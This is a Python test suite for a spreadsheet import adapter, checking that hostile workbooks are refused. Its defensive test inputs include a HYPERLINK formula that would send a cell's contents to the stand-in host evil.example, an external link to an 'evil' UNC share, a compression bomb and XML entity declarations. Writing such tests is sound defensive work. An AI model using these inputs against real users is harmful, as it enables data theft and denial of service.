"""Workbooks from outside: what is opened, and what is refused and named."""

import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any

import pytest
import xlsxwriter
from openpyxl import Workbook

from adapters.workbooks import LIMITS, Formula, Limits, cell_name, open_workbook
from adapters.workbooks.apart import read_apart
from adapters.workbooks.reading import read_workbook
from domain.errors import RuleBroken


def written(fill: Callable[[Any], object]) -> bytes:
    """Return a workbook whose one sheet was filled by a function."""
    content = BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True}) as book:
        fill(book.add_worksheet("Taulukko"))
    return content.getvalue()


def repacked(content: bytes, changes: Mapping[str, bytes]) -> bytes:
    """Return the workbook with some parts replaced or added."""
    packed = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in dict.fromkeys([*old.namelist(), *changes]):
            new.writestr(name, changes[name] if name in changes else old.read(name))
    return packed.getvalue()


def refusal(content: bytes, limits: Limits = Limits()) -> str:  # noqa: B008 - frozen
    with pytest.raises(RuleBroken) as caught:
        open_workbook(content, limits)
    return caught.value.code


PLAIN = written(lambda sheet: sheet.write_row(0, 0, ["Kunta", 5, 12.5, True]))
SHEET = "xl/worksheets/sheet1.xml"


def test_a_plain_workbook_is_read_as_it_was_written() -> None:
    book = open_workbook(PLAIN)
    assert [sheet.name for sheet in book.sheets] == ["Taulukko"]
    assert book.sheets[0].rows == (("Kunta", 5, 12.5, True),)


def test_its_own_properties_and_names_can_be_read() -> None:
    content = BytesIO()
    with xlsxwriter.Workbook(content) as made:
        made.add_worksheet("A")
        made.set_custom_property("version", "7")
        made.define_name("round", "=A!$B$1")
    book = open_workbook(content.getvalue())
    assert book.properties == {"version": "7"}
    assert book.names == {"round": "A!$B$1"}


def test_a_hidden_sheet_says_so() -> None:
    content = BytesIO()
    with xlsxwriter.Workbook(content) as made:
        made.add_worksheet("A")
        made.add_worksheet("B").hide()
    assert [sheet.hidden for sheet in open_workbook(content.getvalue()).sheets] == [False, True]


def test_rows_that_are_only_coloured_are_not_rows() -> None:
    def fill(sheet: Any) -> None:
        sheet.write(0, 0, "x")
        for row in range(1, 6_000):
            sheet.write_blank(row, 3, None, style)

    content = BytesIO()
    with xlsxwriter.Workbook(content) as made:
        style = made.add_format({"bg_color": "yellow"})
        fill(made.add_worksheet())
    assert open_workbook(content.getvalue()).sheets[0].rows == (("x",),)


def test_a_formula_nobody_has_counted_is_never_taken_for_nought() -> None:
    rows = open_workbook(written(lambda sheet: sheet.write_formula(0, 0, "=1+1"))).sheets[0].rows
    assert rows == ((Formula.UNCOUNTED,),)


def test_a_counted_formula_is_its_value() -> None:
    rows = open_workbook(written(lambda sheet: sheet.write_formula(0, 0, "=1+1", None, 2))).sheets[0].rows
    assert rows == ((2,),)


def test_a_formula_written_as_text_stays_text() -> None:
    typed = '=HYPERLINK("http://evil.example/?"&A2)'
    rows = open_workbook(written(lambda sheet: sheet.write_string(0, 0, typed))).sheets[0].rows
    assert rows == ((typed,),)


@pytest.mark.parametrize(("row", "column"), [(1_048_575, 16_383), (1_048_575, 0), (6_000, 2)])
def test_one_cell_far_below_is_refused(row: int, column: int) -> None:
    assert refusal(written(lambda sheet: sheet.write(row, column, 1))) == "workbook.rows"


def test_one_cell_far_to_the_right_is_refused_by_name() -> None:
    with pytest.raises(RuleBroken) as caught:
        open_workbook(written(lambda sheet: sheet.write(0, 16_383, 1)))
    assert (caught.value.code, caught.value.facts["cell"]) == ("workbook.columns", "XFD1")


def test_a_small_file_that_unpacks_to_a_huge_one_is_refused_before_reading() -> None:
    bomb = repacked(PLAIN, {"xl/media/big.xml": b" " * 30_000_000})
    assert len(bomb) < 100_000
    assert refusal(bomb) == "workbook.unpacked"


def test_ten_thousand_parts_are_refused() -> None:
    assert refusal(repacked(PLAIN, {f"xl/media/{number}": b"" for number in range(10_000)})) == "workbook.unpacked"


def test_a_large_file_is_refused() -> None:
    assert refusal(PLAIN, Limits(bytes=100)) == "workbook.size"


HEAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
TAIL = b"</sheetData></worksheet>"
STRINGS = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
WORK = {
    "a million empty rows": {SHEET: HEAD + b"<row/>" * 1_000_000 + TAIL},
    "a million empty cells in one row": {SHEET: HEAD + b"<row>" + b"<c/>" * 1_000_000 + b"</row>" + TAIL},
    "half a million strings": {"xl/sharedStrings.xml": STRINGS + b"<si><t>a</t></si>" * 500_000 + b"</sst>"},
}


@pytest.mark.parametrize("parts", WORK.values(), ids=WORK)
def test_a_small_file_that_is_a_lot_of_work_is_refused_before_it_is_read(parts: Mapping[str, bytes]) -> None:
    assert refusal(repacked(PLAIN, parts)) == "workbook.heavy"


@pytest.mark.neighbour
def test_a_large_sheet_is_read_apart_just_as_a_small_one_is_here() -> None:
    rows = [[f"Kunta {number}", number, 0.5, True] for number in range(2_000)]
    content = written(lambda sheet: [sheet.write_row(number, 0, row) for number, row in enumerate(rows)])
    assert [list(row) for row in open_workbook(content).sheets[0].rows] == rows
    assert read_apart(PLAIN, LIMITS) == read_workbook(PLAIN, LIMITS)


@pytest.mark.neighbour
def test_what_is_wrong_with_a_sheet_read_apart_is_told_with_its_facts() -> None:
    far = written(lambda sheet: sheet.write(0, 16_383, 1))
    with pytest.raises(RuleBroken) as caught:
        read_apart(far, LIMITS)
    assert (caught.value.code, caught.value.facts["cell"]) == ("workbook.columns", "XFD1")


@pytest.mark.neighbour
def test_a_reader_that_breaks_down_is_no_fault_of_the_file() -> None:
    with pytest.raises(ChildProcessError):
        read_apart(b"nothing anybody would have found harmless", LIMITS)


def test_a_share_is_read_as_whoever_typed_it_sees_it() -> None:
    content = BytesIO()
    with xlsxwriter.Workbook(content) as made:
        share, plain = made.add_format({"num_format": "0.0 %"}), made.add_format({"num_format": "0.00"})
        sheet = made.add_worksheet("A")
        for column, (value, look) in enumerate([(0.3, share), (0.07, share), (0.3, plain), (0, share)]):
            sheet.write_number(0, column, value, look)
    assert open_workbook(content.getvalue()).sheets[0].rows == (("30 %", "7 %", 0.3, "0 %"),)


@pytest.mark.parametrize("start", [b"", b"<?xml version='1.0'?>\n"])
def test_a_file_with_a_document_type_is_refused(start: bytes) -> None:
    part = start + b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet>&a;</worksheet>'
    assert refusal(repacked(PLAIN, {SHEET: part})) == "workbook.content"


def test_an_entity_hidden_in_another_encoding_is_refused() -> None:
    part = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><worksheet>&a;</worksheet>'
    assert refusal(repacked(PLAIN, {SHEET: part.encode("utf-16")})) in {"workbook.content", "workbook.broken"}


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"<html><table>", "workbook.kind"),
        (b"a;b;c\n", "workbook.kind"),
        (b"", "workbook.kind"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "workbook.old"),
        (b"\xd0\xcf\x11\xe0" + bytes(60) + "EncryptedPackage".encode("utf-16-le"), "workbook.password"),
        (PLAIN[:-40], "workbook.broken"),
        (PLAIN[:3_000], "workbook.broken"),
        (repacked(PLAIN, {"xl/vbaProject.bin": b"x"}), "workbook.macros"),
        (repacked(PLAIN, {SHEET: b"<worksheet><sheetData><row"}), "workbook.broken"),
        (repacked(PLAIN, {"xl/workbook.xml": b"<a/>"}), "workbook.broken"),
    ],
)
def test_what_is_no_workbook_for_us_is_named(content: bytes, code: str) -> None:
    assert refusal(content) == code


def test_a_link_to_another_file_is_not_followed() -> None:
    book = Workbook()
    book.active.append(["=[\\\\evil\\share\\x.xlsx]Sheet1!A1"])  # type: ignore[union-attr]
    content = BytesIO()
    book.save(content)
    assert open_workbook(content.getvalue()).sheets[0].rows == ((Formula.UNCOUNTED,),)


def test_cells_are_called_as_people_see_them() -> None:
    assert [cell_name(0, 0), cell_name(6, 2), cell_name(1_048_575, 16_383)] == ["A1", "C7", "XFD1048576"]
